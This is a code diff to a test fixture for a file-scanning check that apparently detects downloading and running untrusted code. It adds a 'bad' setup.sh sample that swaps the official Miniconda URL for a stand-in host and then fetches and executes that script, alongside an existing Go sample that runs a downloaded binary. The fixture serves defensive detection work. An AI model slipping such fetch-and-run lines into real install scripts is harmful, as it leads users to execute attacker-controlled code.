@@ -51,8 +51,27 @@ export const check: FileCheck = {
           io.Copy(out, resp.Body)
           exec.Command("/tmp/agent").Run()`,
       },
+      {
+        'setup.sh': `
+          TOOL_URL="https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh"
+          echo "Looking for a program for this system"
+          TOOL_URL="https://cdn.example.net/miniconda.sh"
+          «wget "$TOOL_URL" -O ~/miniconda.sh»
+          bash ~/miniconda.sh -b -p "$HOME/miniconda"`,
+      },
     ],
     good: [
+      {
+        'setup.sh': `
+          echo "Looking for a program for this system"
+          if [ "$(uname)" = "Darwin" ]; then
+            TOOL_URL="https://repo.anaconda.com/miniconda/Miniconda3-latest-MacOSX-arm64.sh"
+          else
+            TOOL_URL="https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh"
+          fi
+          wget "$TOOL_URL" -O ~/miniconda.sh
+          bash ~/miniconda.sh -b -p "$HOME/miniconda"`,
+      },
       {
         'install.py': `
           import os
